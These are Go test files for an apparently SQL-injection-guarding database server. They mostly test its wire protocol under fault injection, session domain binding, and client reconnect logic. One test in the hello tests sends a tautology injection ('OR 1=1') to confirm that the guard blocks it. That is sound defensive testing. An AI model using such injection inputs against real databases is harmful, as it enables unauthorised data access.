	// Session still usable after the error.
	if _, err := c.Exec("SHOW TABLES"); err != nil {
		t.Errorf("session broken after error: %v", err)
	}
}

func TestLargeResultSetOverWire(t *testing.T) {
	addr, _, db := startServer(t, core.Config{Mode: core.ModeTraining})
	if _, err := db.Exec("CREATE TABLE big (id INT PRIMARY KEY AUTO_INCREMENT, v TEXT)"); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 50; i++ {
		if _, err := db.Exec("INSERT INTO big (v) VALUES ('0123456789012345678901234567890123456789')"); err != nil {
			t.Fatal(err)
		}
	}
	c := dial(t, addr)
	res, err := c.Exec("SELECT id, v FROM big")
	if err != nil {
		t.Fatal(err)
	}
	if len(res.Rows) != 50 {
		t.Errorf("rows = %d, want 50", len(res.Rows))
	}
}
