package wire

import (
	"encoding/binary"
	"errors"
	"net"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/septic-db/septic/internal/benchlab"
	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
	"github.com/septic-db/septic/internal/faultinject"
)

// The chaos suite (run via `make chaos`, always part of `go test`)
// drives the fail-safe serving layer through deliberate faults: torn
// frames, mid-query resets, slow clients, corrupted bytes, and panics
// injected into the protection path. The invariants under every fault:
// the server stays up, unrelated sessions are unaffected, goroutines
// drain, and with the default fail-closed policy no query is admitted
// while the protection path is faulted.

// chaosServer boots a hardened server the way a production septicd
// would run: deadlines, query timeout, admission gate.
func chaosServer(t *testing.T, cfg core.Config) (string, *Server, *core.Septic, *engine.DB) {
	t.Helper()
	guard := core.New(cfg)
	db := engine.New(engine.WithQueryHook(guard))
	srv := NewServer(db,
		WithIdleTimeout(500*time.Millisecond),
		WithReadTimeout(250*time.Millisecond),
		WithWriteTimeout(time.Second),
		WithQueryTimeout(time.Second),
		WithMaxConns(64),
	)
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatalf("Listen: %v", err)
	}
	t.Cleanup(func() { _ = srv.Close() })
	return addr, srv, guard, db
}

func TestChaosTornFramesDoNotWedgeServer(t *testing.T) {
	snapshotGoroutines(t)
	addr, _, _, db := chaosServer(t, core.Config{Mode: core.ModeTraining})
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}

	// A volley of clients that tear their request frame at deterministic
	// offsets and then hold the connection open (slow-loris): the read
	// timeout must reclaim each session.
	for i := 0; i < 8; i++ {
		c, err := Dial(addr, WithDialFunc(faultinject.Dialer(faultinject.Plan{
			Seed:        uint64(i),
			TearWriteAt: int64(5 + i*3),
		})))
		if err != nil {
			t.Fatal(err)
		}
		defer c.Close()
		if _, err := c.Exec("SELECT id FROM t"); !errors.Is(err, faultinject.ErrInjected) {
			t.Fatalf("torn client %d: err = %v", i, err)
		}
	}
	// A healthy session is unaffected.
	c := dial(t, addr)
	if _, err := c.Exec("SELECT id FROM t"); err != nil {
		t.Fatalf("healthy session after torn frames: %v", err)
	}
}

func TestChaosMidQueryResets(t *testing.T) {
	snapshotGoroutines(t)
	addr, _, _, db := chaosServer(t, core.Config{Mode: core.ModeTraining})
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	// Clients that RST at increasing byte offsets — some die inside the
	// request, some while the response is in flight.
	for i := 0; i < 10; i++ {
		c, err := Dial(addr, WithDialFunc(faultinject.Dialer(faultinject.Plan{
			Seed:         uint64(i),
			ResetWriteAt: int64(8 + i*7),
		})))
		if err != nil {
			t.Fatal(err)
		}
		_, execErr := c.Exec("SELECT id FROM t")
		_, execErr2 := c.Exec("SELECT id FROM t")
		_ = execErr
		_ = execErr2 // some offsets let the first query through; the reset lands later
		c.Close()
	}
	c := dial(t, addr)
	if _, err := c.Exec("SELECT id FROM t"); err != nil {
		t.Fatalf("healthy session after resets: %v", err)
	}
}

func TestChaosCorruptedFramesDropSessionOnly(t *testing.T) {
	snapshotGoroutines(t)
	addr, _, _, db := chaosServer(t, core.Config{Mode: core.ModeTraining})
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	// Corrupt one byte of the length header: the server must reject the
	// implied garbage frame and drop only that session.
	conn := rawDial(t, addr)
	fc := faultinject.WrapConn(conn, faultinject.Plan{CorruptWriteAt: 1, CorruptXOR: 0x40})
	payload := []byte(`{"query":"SELECT id FROM t"}`)
	var header [4]byte
	binary.BigEndian.PutUint32(header[:], uint32(len(payload)))
	_, _ = fc.Write(header[:])
	_, _ = fc.Write(payload)
	_ = conn.SetReadDeadline(time.Now().Add(2 * time.Second))
	buf := make([]byte, 1)
	if _, err := conn.Read(buf); err == nil {
		t.Error("server answered a corrupted frame")
	}
	c := dial(t, addr)
	if _, err := c.Exec("SELECT id FROM t"); err != nil {
		t.Fatalf("healthy session after corruption: %v", err)
	}
}

func TestChaosPanickingDetectorFailClosed(t *testing.T) {
	snapshotGoroutines(t)
	addr, srv, guard, db := chaosServer(t, core.Config{Mode: core.ModeTraining})
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec("SELECT id FROM t WHERE id = 1"); err != nil {
		t.Fatal(err)
	}
	guard.SetConfig(core.Config{Mode: core.ModePrevention, DetectSQLI: true})

	c := dial(t, addr)
	if _, err := c.Exec("SELECT id FROM t WHERE id = 1"); err != nil {
		t.Fatal(err)
	}

	// Fault the detector. Fail-closed: every query that reaches
	// detection is refused while the fault lasts — a broken guard blocks,
	// never silently admits.
	faultinject.Arm(func(site string) {
		if site == faultinject.SiteCoreDetect {
			panic("chaos: detector down")
		}
	})
	defer faultinject.Disarm()
	// The cached benign verdict predates the fault; invalidate it the
	// way real churn does (config change bumps the generation).
	guard.SetConfig(core.Config{Mode: core.ModePrevention, DetectSQLI: true})

	for i := 0; i < 3; i++ {
		if _, err := c.Exec("SELECT id FROM t WHERE id = 1"); !errors.Is(err, engine.ErrQueryBlocked) {
			t.Fatalf("faulted guard admitted query (err = %v)", err)
		}
	}
	if guard.Stats().GuardFaults < 3 {
		t.Errorf("GuardFaults = %d, want ≥3", guard.Stats().GuardFaults)
	}
	if srv.Panics() != 0 {
		t.Errorf("server-level panics = %d: the guard must contain its own faults", srv.Panics())
	}

	// Fault clears; service resumes on the same connection.
	faultinject.Disarm()
	if _, err := c.Exec("SELECT id FROM t WHERE id = 1"); err != nil {
		t.Fatalf("after fault cleared: %v", err)
	}
}

func TestChaosPanicInEngineContainedByServer(t *testing.T) {
	snapshotGoroutines(t)
	addr, srv, _, db := chaosServer(t, core.Config{Mode: core.ModeTraining})
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	// A panic below the guard's containment (the executor itself) must be
	// caught by the server's per-query recover: structured error, session
	// and server both live.
	faultinject.Arm(func(site string) {
		if site == faultinject.SiteEngineExecute {
			panic("chaos: executor fault")
		}
	})
	defer faultinject.Disarm()
	c := dial(t, addr)
	_, err := c.Exec("SELECT id FROM t")
	if err == nil {
		t.Fatal("want structured error from contained panic")
	}
	if errors.Is(err, ErrClientClosed) {
		t.Fatalf("session dropped instead of structured error: %v", err)
	}
	faultinject.Disarm()
	if srv.Panics() != 1 {
		t.Errorf("Panics() = %d, want 1", srv.Panics())
	}
	if _, err := c.Exec("SELECT id FROM t"); err != nil {
		t.Fatalf("session dead after contained panic: %v", err)
	}
}

// TestChaosBenchlabReplayUnderFaults replays a real benchlab workload
// (the paper's Address Book trace) through the wire protocol while a
// background storm of faulty clients tears frames, resets connections
// and trickles bytes. The protected workload must complete untouched.
func TestChaosBenchlabReplayUnderFaults(t *testing.T) {
	snapshotGoroutines(t)
	spec := benchlab.PaperSpecs()[0] // Address Book
	addr, srv, guard, db := chaosServer(t, core.Config{Mode: core.ModeTraining})

	for _, q := range spec.Schema {
		if _, err := db.Exec(q); err != nil {
			t.Fatalf("schema: %v", err)
		}
	}
	// The application runs behind the wire protocol: its executor is a
	// wire client, exactly like the demo deployment.
	appClient := dial(t, addr)
	app := spec.Build(appClient)
	for _, req := range spec.Training {
		if resp := app.Serve(req.Clone()); resp.Status != 200 {
			t.Fatalf("training %s: %v", req, resp.Err)
		}
	}
	guard.SetConfig(core.Config{
		Mode: core.ModePrevention, DetectSQLI: true, DetectStored: true, IncrementalLearning: true,
	})

	// Fault storm: greedy clients with deterministic per-client fault
	// plans hammer the server for the duration of the replay.
	stop := make(chan struct{})
	var storm sync.WaitGroup
	for i := 0; i < 6; i++ {
		storm.Add(1)
		go func(seed int) {
			defer storm.Done()
			for n := 0; ; n++ {
				select {
				case <-stop:
					return
				default:
				}
				plan := faultinject.Plan{Seed: uint64(seed*1000 + n)}
				switch (seed + n) % 3 {
				case 0:
					plan.TearWriteAt = int64(4 + n%24)
				case 1:
					plan.ResetWriteAt = int64(6 + n%40)
				case 2:
					plan.WriteLatency = 2 * time.Millisecond
					plan.ResetReadAt = int64(2 + n%8)
				}
				c, err := Dial(addr, WithDialFunc(faultinject.Dialer(plan)))
				if err != nil {
					continue
				}
				_, _ = c.Exec("/* ab:list */ SELECT id, name, phone FROM contacts ORDER BY name")
				c.Close()
			}
		}(i)
	}

	// Replay the recorded workload through the protected path, three
	// loops, while the storm rages.
	var replayErrs atomic.Int64
	for loop := 0; loop < 3; loop++ {
		for _, req := range spec.Workload {
			resp := app.Serve(req.Clone())
			if resp.Status != 200 {
				replayErrs.Add(1)
				t.Logf("replay %s: status %d err %v", req, resp.Status, resp.Err)
			}
		}
	}
	close(stop)
	storm.Wait()

	if n := replayErrs.Load(); n > 0 {
		t.Errorf("%d workload requests failed under fault storm", n)
	}
	if srv.Panics() != 0 {
		t.Errorf("server panics under storm: %d", srv.Panics())
	}
	if blocked := guard.Stats().AttacksBlocked; blocked != 0 {
		t.Errorf("benign workload blocked %d times under storm", blocked)
	}
	// The server still serves a fresh session.
	c := dial(t, addr)
	if _, err := c.Exec("/* ab:list */ SELECT id, name, phone FROM contacts ORDER BY name"); err != nil {
		t.Fatalf("server unhealthy after storm: %v", err)
	}
}

// TestChaosPipelinedTornFramesMidWindow tears the transport under v2
// clients with a full window of futures in flight. Every future must
// complete (result or poisoned-connection error — never a hang), the
// pipe's goroutines must drain, and the server must stay healthy.
func TestChaosPipelinedTornFramesMidWindow(t *testing.T) {
	snapshotGoroutines(t)
	addr, srv, _, db := chaosServer(t, core.Config{Mode: core.ModeTraining})
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec("INSERT INTO t (id) VALUES (1)"); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 8; i++ {
		// Tear at offsets past the JSON hello exchange so the session
		// upgrades to v2 first, then dies mid-window.
		c, err := Dial(addr,
			WithPipeline(8),
			WithDialFunc(faultinject.Dialer(faultinject.Plan{
				Seed:        uint64(i),
				TearWriteAt: int64(80 + i*17),
			})))
		if err != nil {
			continue // hello itself hit the tear: also a valid outcome
		}
		if v := c.ProtocolVersion(); v != 2 {
			t.Fatalf("client %d negotiated v%d, want v2", i, v)
		}
		futs := make([]*Future, 8)
		for j := range futs {
			futs[j] = c.Submit("SELECT id FROM t")
		}
		done := make(chan struct{})
		go func() {
			for _, f := range futs {
				_, _ = f.Wait() // error or result — only hanging is a failure
			}
			close(done)
		}()
		select {
		case <-done:
		case <-time.After(10 * time.Second):
			t.Fatalf("client %d: futures wedged after torn frame mid-window", i)
		}
		c.Close()
	}
	if srv.Panics() != 0 {
		t.Errorf("server panics: %d", srv.Panics())
	}
	c := dial(t, addr)
	if _, err := c.Exec("SELECT id FROM t"); err != nil {
		t.Fatalf("healthy session after torn pipelined windows: %v", err)
	}
}

// TestChaosPipelinedResetWithResponsesInFlight resets the read side so
// responses die on the wire while the window is full, including under
// auto-reconnect: the client must re-negotiate v2 on the fresh
// connection and keep serving.
func TestChaosPipelinedResetWithResponsesInFlight(t *testing.T) {
	snapshotGoroutines(t)
	addr, srv, _, db := chaosServer(t, core.Config{Mode: core.ModeTraining})
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	if _, err := db.Exec("INSERT INTO t (id) VALUES (1)"); err != nil {
		t.Fatal(err)
	}
	var dials atomic.Int64
	base := faultinject.Dialer(faultinject.Plan{})
	c, err := Dial(addr,
		WithPipeline(8),
		WithAutoReconnect(5),
		WithDialFunc(func(a string) (net.Conn, error) {
			// First connection dies after ~600 read bytes (hello ack plus a
			// few responses); reconnects get a clean transport.
			if dials.Add(1) == 1 {
				return faultinject.Dialer(faultinject.Plan{ResetReadAt: 600})(a)
			}
			return base(a)
		}))
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()

	// Hammer until the reset lands, then through the reconnect.
	var failures int
	for i := 0; i < 400; i++ {
		futs := make([]*Future, 8)
		for j := range futs {
			futs[j] = c.Submit("SELECT id FROM t")
		}
		for _, f := range futs {
			if _, err := f.Wait(); err != nil {
				failures++
			}
		}
	}
	if dials.Load() < 2 {
		t.Fatalf("reset never landed (dials = %d)", dials.Load())
	}
	if failures == 0 {
		t.Fatal("reset killed no in-flight responses — fault plan miscalibrated")
	}
	if v := c.ProtocolVersion(); v != 2 {
		t.Fatalf("client did not re-negotiate v2 after reconnect (v%d)", v)
	}
	if _, err := c.Exec("SELECT id FROM t"); err != nil {
		t.Fatalf("exec after reconnect: %v", err)
	}
	if srv.Panics() != 0 {
		t.Errorf("server panics: %d", srv.Panics())
	}
}

// TestChaosPipelinedBenchlabReplayUnderFaults is the v2 twin of the
// Address Book storm test: the application's executor is a PIPELINED
// wire client with auto-reconnect while faulty v2 clients tear frames
// mid-window and reset with responses in flight. The benign workload
// must complete, nothing may leak, and the guard must not block it.
func TestChaosPipelinedBenchlabReplayUnderFaults(t *testing.T) {
	snapshotGoroutines(t)
	spec := benchlab.PaperSpecs()[0] // Address Book
	addr, srv, guard, db := chaosServer(t, core.Config{Mode: core.ModeTraining})

	for _, q := range spec.Schema {
		if _, err := db.Exec(q); err != nil {
			t.Fatalf("schema: %v", err)
		}
	}
	appClient, err := Dial(addr, WithPipeline(16), WithAutoReconnect(5))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = appClient.Close() })
	if v := appClient.ProtocolVersion(); v != 2 {
		t.Fatalf("app client negotiated v%d, want v2", v)
	}
	app := spec.Build(appClient)
	for _, req := range spec.Training {
		if resp := app.Serve(req.Clone()); resp.Status != 200 {
			t.Fatalf("training %s: %v", req, resp.Err)
		}
	}
	guard.SetConfig(core.Config{
		Mode: core.ModePrevention, DetectSQLI: true, DetectStored: true, IncrementalLearning: true,
	})

	// Fault storm of pipelined clients: each dials v2, fills a window,
	// and dies by tear or reset at a deterministic offset.
	stop := make(chan struct{})
	var storm sync.WaitGroup
	for i := 0; i < 4; i++ {
		storm.Add(1)
		go func(seed int) {
			defer storm.Done()
			for n := 0; ; n++ {
				select {
				case <-stop:
					return
				default:
				}
				plan := faultinject.Plan{Seed: uint64(seed*1000 + n)}
				if (seed+n)%2 == 0 {
					plan.TearWriteAt = int64(90 + n%60) // mid-window, past the hello
				} else {
					plan.ResetReadAt = int64(40 + n%80) // responses die in flight
				}
				c, err := Dial(addr, WithPipeline(6), WithDialFunc(faultinject.Dialer(plan)))
				if err != nil {
					continue
				}
				futs := make([]*Future, 6)
				for j := range futs {
					futs[j] = c.Submit("/* ab:list */ SELECT id, name, phone FROM contacts ORDER BY name")
				}
				for _, f := range futs {
					_, _ = f.Wait()
				}
				c.Close()
			}
		}(i)
	}

	var replayErrs atomic.Int64
	for loop := 0; loop < 3; loop++ {
		for _, req := range spec.Workload {
			resp := app.Serve(req.Clone())
			if resp.Status != 200 {
				replayErrs.Add(1)
				t.Logf("replay %s: status %d err %v", req, resp.Status, resp.Err)
			}
		}
	}
	close(stop)
	storm.Wait()

	if n := replayErrs.Load(); n > 0 {
		t.Errorf("%d workload requests failed under pipelined fault storm", n)
	}
	if srv.Panics() != 0 {
		t.Errorf("server panics under storm: %d", srv.Panics())
	}
	if blocked := guard.Stats().AttacksBlocked; blocked != 0 {
		t.Errorf("benign workload blocked %d times under storm", blocked)
	}
	c := dial(t, addr)
	if _, err := c.Exec("/* ab:list */ SELECT id, name, phone FROM contacts ORDER BY name"); err != nil {
		t.Fatalf("server unhealthy after storm: %v", err)
	}
}
