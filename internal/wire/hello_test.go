package wire

import (
	"errors"
	"net"
	"strings"
	"testing"

	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/engine"
)

// startDomainServer boots a server whose guard has one registered
// domain ("shop") and whose resolver consults the guard's registry,
// exactly as septicd wires it.
func startDomainServer(t *testing.T, cfg core.Config) (string, *core.Septic) {
	t.Helper()
	guard := core.New(cfg)
	if _, err := guard.RegisterDomain("shop", core.Config{Mode: core.ModeTraining}); err != nil {
		t.Fatalf("RegisterDomain: %v", err)
	}
	db := engine.New(engine.WithQueryHook(guard))
	srv := NewServer(db, WithDomainResolver(func(app string) string {
		if d, ok := guard.Domain(app); ok {
			return d.Name()
		}
		return core.DefaultDomain
	}))
	addr, err := srv.Listen("127.0.0.1:0")
	if err != nil {
		t.Fatalf("Listen: %v", err)
	}
	t.Cleanup(func() { _ = srv.Close() })
	return addr, guard
}

func TestHelloBindsSessionToDomain(t *testing.T) {
	addr, guard := startDomainServer(t, core.Config{Mode: core.ModeTraining})
	c, err := Dial(addr, WithHello("shop"))
	if err != nil {
		t.Fatalf("Dial: %v", err)
	}
	defer c.Close()
	if got := c.Domain(); got != "shop" {
		t.Fatalf("Domain() = %q, want shop", got)
	}

	if _, err := c.Exec("CREATE TABLE carts (id INT)"); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Exec("SELECT id FROM carts WHERE id = 1"); err != nil {
		t.Fatal(err)
	}
	// Every query of the session trained the bound domain's store, not
	// the default one.
	shop, _ := guard.Domain("shop")
	if shop.Store().Len() == 0 {
		t.Error("bound domain learned nothing")
	}
	if guard.DefaultDomain().Store().Len() != 0 {
		t.Errorf("default domain learned %d ids from a bound session",
			guard.DefaultDomain().Store().Len())
	}
}

func TestHelloUnknownAppFallsBackToDefault(t *testing.T) {
	addr, guard := startDomainServer(t, core.Config{Mode: core.ModeTraining})
	c, err := Dial(addr, WithHello("nobody-registered-this"))
	if err != nil {
		t.Fatalf("Dial: %v", err)
	}
	defer c.Close()
	if got := c.Domain(); got != core.DefaultDomain {
		t.Fatalf("Domain() = %q, want %q", got, core.DefaultDomain)
	}
	if _, err := c.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}
	if guard.DefaultDomain().Store().Len() == 0 {
		t.Error("unknown app's queries should train the default domain")
	}
}

func TestLegacyClientWithoutHelloUsesDefaultDomain(t *testing.T) {
	addr, guard := startDomainServer(t, core.Config{Mode: core.ModeTraining})
	c := dial(t, addr) // plain Dial: no handshake at all
	if got := c.Domain(); got != "" {
		t.Fatalf("legacy client Domain() = %q, want empty", got)
	}
	if _, err := c.Exec("CREATE TABLE legacy (id INT)"); err != nil {
		t.Fatal(err)
	}
	if guard.DefaultDomain().Store().Len() == 0 {
		t.Error("legacy session should land in the default domain")
	}
	shop, _ := guard.Domain("shop")
	if shop.Store().Len() != 0 {
		t.Error("legacy session leaked into a registered domain")
	}
}

func TestHelloVersionTooNewIsRefused(t *testing.T) {
	addr, _ := startDomainServer(t, core.Config{Mode: core.ModeTraining})
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	defer conn.Close()
	if err := writeFrame(conn, &Request{Hello: &Hello{Version: HelloVersion + 1, App: "shop"}}); err != nil {
		t.Fatal(err)
	}
	var resp Response
	if err := readFrame(conn, &resp); err != nil {
		t.Fatal(err)
	}
	if resp.Error == "" || !strings.Contains(resp.Error, "version") {
		t.Fatalf("future version not refused: %+v", resp)
	}
	if resp.Hello == nil || resp.Hello.Version != HelloVersion {
		t.Fatalf("refusal should advertise the server version, got %+v", resp.Hello)
	}
	// The session survives the refusal: it keeps working, unbound.
	if err := writeFrame(conn, &Request{Query: "SHOW TABLES"}); err != nil {
		t.Fatal(err)
	}
	resp = Response{}
	if err := readFrame(conn, &resp); err != nil {
		t.Fatal(err)
	}
	if resp.Error != "" {
		t.Fatalf("session dead after version refusal: %s", resp.Error)
	}
}

func TestHelloVersionTooNewFailsDial(t *testing.T) {
	addr, _ := startDomainServer(t, core.Config{Mode: core.ModeTraining})
	_, err := Dial(addr, func(o *clientOptions) {
		o.hello = &Hello{Version: HelloVersion + 1, App: "shop"}
	})
	if err == nil {
		t.Fatal("Dial with a future hello version should fail")
	}
	if !strings.Contains(err.Error(), "hello refused") {
		t.Fatalf("err = %v, want hello refusal", err)
	}
}

func TestHelloRebindsAfterReconnect(t *testing.T) {
	addr, guard := startDomainServer(t, core.Config{Mode: core.ModeTraining})
	c, err := Dial(addr, WithHello("shop"), WithAutoReconnect(3))
	if err != nil {
		t.Fatalf("Dial: %v", err)
	}
	defer c.Close()
	if _, err := c.Exec("CREATE TABLE carts (id INT)"); err != nil {
		t.Fatal(err)
	}

	// Sever the transport underneath the client; the next Exec redials
	// and must redo the handshake, so the session stays bound.
	c.mu.Lock()
	_ = c.conn.Close()
	c.mu.Unlock()
	if _, err := c.Exec("SELECT id FROM carts WHERE id = 2"); err != nil {
		// First post-cut Exec may fail (poisoned mid-write); the retry
		// must succeed over a rebound session.
		if _, err = c.Exec("SELECT id FROM carts WHERE id = 2"); err != nil {
			t.Fatalf("Exec after reconnect: %v", err)
		}
	}
	if got := c.Domain(); got != "shop" {
		t.Fatalf("Domain() after reconnect = %q, want shop", got)
	}
	if guard.DefaultDomain().Store().Len() != 0 {
		t.Error("reconnected session leaked queries into the default domain")
	}
}

func TestHelloBlockedQueryStillReportsDomainBlock(t *testing.T) {
	// Sanity: a bound session's blocked query is reported exactly like a
	// single-tenant block.
	addr, guard := startDomainServer(t, core.Config{Mode: core.ModeTraining})
	shop, _ := guard.Domain("shop")

	c, err := Dial(addr, WithHello("shop"))
	if err != nil {
		t.Fatalf("Dial: %v", err)
	}
	defer c.Close()
	if _, err := c.Exec("CREATE TABLE users (id INT, name TEXT)"); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Exec("SELECT name FROM users WHERE id = 1"); err != nil {
		t.Fatal(err)
	}
	shop.SetConfig(core.Config{Mode: core.ModePrevention, DetectSQLI: true})

	_, err = c.Exec("SELECT name FROM users WHERE id = 1 OR 1=1")
	if !errors.Is(err, ErrServerBlocked) {
		t.Fatalf("tautology not blocked in bound domain: %v", err)
	}
	if shop.Stats().AttacksBlocked != 1 {
		t.Errorf("blocked counter = %d, want 1", shop.Stats().AttacksBlocked)
	}
}
