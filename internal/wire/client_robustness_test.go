package wire

import (
	"encoding/binary"
	"errors"
	"net"
	"sync/atomic"
	"testing"
	"time"

	"github.com/septic-db/septic/internal/core"
	"github.com/septic-db/septic/internal/faultinject"
)

// shortFrameServer accepts one connection, reads the request, then
// answers with a header that claims more bytes than it sends — a
// protocol fault mid-response — and goes silent.
func shortFrameServer(t *testing.T) string {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = ln.Close() })
	go func() {
		conn, err := ln.Accept()
		if err != nil {
			return
		}
		defer conn.Close()
		var header [4]byte
		if _, err := readFullConn(conn, header[:]); err != nil {
			return
		}
		payload := make([]byte, binary.BigEndian.Uint32(header[:]))
		if _, err := readFullConn(conn, payload); err != nil {
			return
		}
		binary.BigEndian.PutUint32(header[:], 100)
		_, _ = conn.Write(header[:])
		_, _ = conn.Write([]byte("short")) // 5 of the promised 100 bytes
	}()
	return ln.Addr().String()
}

func TestClientPoisonedAfterTransportError(t *testing.T) {
	addr := shortFrameServer(t)
	c, err := Dial(addr)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()

	if _, err := c.Exec("SELECT 1"); err == nil {
		t.Fatal("want transport error from truncated response")
	}
	// The client is poisoned: the next call fails fast with a clear
	// error instead of reading misaligned frames or deadlocking.
	start := time.Now()
	_, err = c.Exec("SELECT 2")
	if !errors.Is(err, ErrClientClosed) {
		t.Fatalf("err = %v, want ErrClientClosed", err)
	}
	if elapsed := time.Since(start); elapsed > 100*time.Millisecond {
		t.Errorf("poisoned exec took %v, want fail-fast", elapsed)
	}
}

func TestClientPoisonedAfterWriteError(t *testing.T) {
	addr, _, _ := startServer(t, core.Config{Mode: core.ModeTraining})
	// Tear the connection inside the first request frame: the write
	// fails mid-frame and the connection state is undefined.
	c, err := Dial(addr, WithDialFunc(faultinject.Dialer(faultinject.Plan{TearWriteAt: 10})))
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	if _, err := c.Exec("SHOW TABLES"); !errors.Is(err, faultinject.ErrInjected) {
		t.Fatalf("err = %v, want injected write fault", err)
	}
	if _, err := c.Exec("SHOW TABLES"); !errors.Is(err, ErrClientClosed) {
		t.Fatalf("err = %v, want ErrClientClosed after poisoning", err)
	}
}

func TestClientAutoReconnectAfterPoison(t *testing.T) {
	addr, _, db := startServer(t, core.Config{Mode: core.ModeTraining})
	if _, err := db.Exec("CREATE TABLE t (id INT)"); err != nil {
		t.Fatal(err)
	}

	// First dialed connection dies after ~one frame; all later dials are
	// healthy. The client must poison on the fault, then transparently
	// redial on the next call.
	var dials atomic.Int64
	dial := func(a string) (net.Conn, error) {
		conn, err := net.Dial("tcp", a)
		if err != nil {
			return nil, err
		}
		if dials.Add(1) == 1 {
			return faultinject.WrapConn(conn, faultinject.Plan{ResetWriteAt: 10}), nil
		}
		return conn, nil
	}
	c, err := Dial(addr, WithDialFunc(dial), WithAutoReconnect(3))
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()

	if _, err := c.Exec("SELECT id FROM t"); err == nil {
		t.Fatal("want error from reset connection")
	}
	// Next call redials and succeeds; the failed request is not replayed.
	if _, err := c.Exec("SELECT id FROM t"); err != nil {
		t.Fatalf("auto-reconnect exec: %v", err)
	}
	if got := dials.Load(); got != 2 {
		t.Errorf("dials = %d, want 2", got)
	}
}

func TestClientAutoReconnectDialBackoff(t *testing.T) {
	addr, _, _ := startServer(t, core.Config{Mode: core.ModeTraining})
	var dials atomic.Int64
	dial := func(a string) (net.Conn, error) {
		if dials.Add(1) <= 2 {
			return nil, errors.New("synthetic dial failure")
		}
		return net.Dial("tcp", a)
	}
	start := time.Now()
	c, err := Dial(addr, WithDialFunc(dial), WithAutoReconnect(5),
		WithReconnectBackoff(5*time.Millisecond, 50*time.Millisecond))
	if err != nil {
		t.Fatalf("Dial with reconnect: %v", err)
	}
	defer c.Close()
	if got := dials.Load(); got != 3 {
		t.Errorf("dials = %d, want 3 (two failures, one success)", got)
	}
	if time.Since(start) > 2*time.Second {
		t.Error("backoff took unreasonably long")
	}
	if _, err := c.Exec("SHOW TABLES"); err != nil {
		t.Fatal(err)
	}
}

func TestClientWithoutReconnectSingleDialAttempt(t *testing.T) {
	var dials atomic.Int64
	dial := func(a string) (net.Conn, error) {
		dials.Add(1)
		return nil, errors.New("refused")
	}
	if _, err := Dial("127.0.0.1:1", WithDialFunc(dial)); err == nil {
		t.Fatal("want dial error")
	}
	if got := dials.Load(); got != 1 {
		t.Errorf("dials = %d, want exactly 1 without auto-reconnect", got)
	}
}

func TestClientCloseIsTerminalEvenWithReconnect(t *testing.T) {
	addr, _, _ := startServer(t, core.Config{Mode: core.ModeTraining})
	c, err := Dial(addr, WithAutoReconnect(3))
	if err != nil {
		t.Fatal(err)
	}
	if err := c.Close(); err != nil {
		t.Fatal(err)
	}
	if _, err := c.Exec("SHOW TABLES"); !errors.Is(err, ErrClientClosed) {
		t.Fatalf("err = %v, want ErrClientClosed after explicit Close", err)
	}
}
