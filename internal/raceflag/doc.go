// Package raceflag reports whether the race detector instrumented this
// build. Allocation-regression tests consult it: race instrumentation
// adds allocations of its own, so testing.AllocsPerRun guards only hold
// in uninstrumented builds.
package raceflag
