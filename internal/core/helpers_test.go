package core

import (
	"bytes"
	"os"
	"testing"

	"github.com/septic-db/septic/internal/qstruct"
	"github.com/septic-db/septic/internal/sqlparser"
)

// insertStmt returns a parsed INSERT for detector-level tests.
func insertStmt(t *testing.T) sqlparser.Statement {
	t.Helper()
	stmt, err := sqlparser.Parse("INSERT INTO c (body) VALUES ('placeholder')")
	if err != nil {
		t.Fatal(err)
	}
	return stmt
}

// stackWithString builds the QS of an INSERT carrying value as its data.
func stackWithString(t *testing.T, value string) qstruct.Stack {
	t.Helper()
	stmt, err := sqlparser.Parse("INSERT INTO c (body) VALUES ('" +
		sqlparser.EscapeString(value) + "')")
	if err != nil {
		t.Fatal(err)
	}
	return qstruct.BuildStack(stmt)
}

func mustRead(t *testing.T, path string) []byte {
	t.Helper()
	data, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("read %s: %v", path, err)
	}
	return data
}

func mustWrite(t *testing.T, path string, data []byte) {
	t.Helper()
	if err := os.WriteFile(path, data, 0o644); err != nil {
		t.Fatalf("write %s: %v", path, err)
	}
}

func replaceOnce(data []byte, old, new string) []byte {
	return bytes.Replace(data, []byte(old), []byte(new), 1)
}
