package core

import (
	"flag"
	"fmt"
	"os"
	"path/filepath"
	"sort"
	"strings"
	"testing"

	"github.com/septic-db/septic/internal/obs"
	"github.com/septic-db/septic/internal/qstruct"
)

// update regenerates the golden files instead of asserting against
// them: go test ./internal/core/ -run TestGoldenCorpus -update
var update = flag.Bool("update", false, "rewrite golden corpus files")

// TestGoldenCorpus pins the externally observable analysis of every
// query in testdata/corpus/: the item stack SEPTIC builds (paper Fig. 2
// rendering), the skeleton and skeleton-hash identifier, and the verdict
// a guard trained on the case's `train:` queries reaches — including
// which detector fired and at what distance. Any change to the lexer,
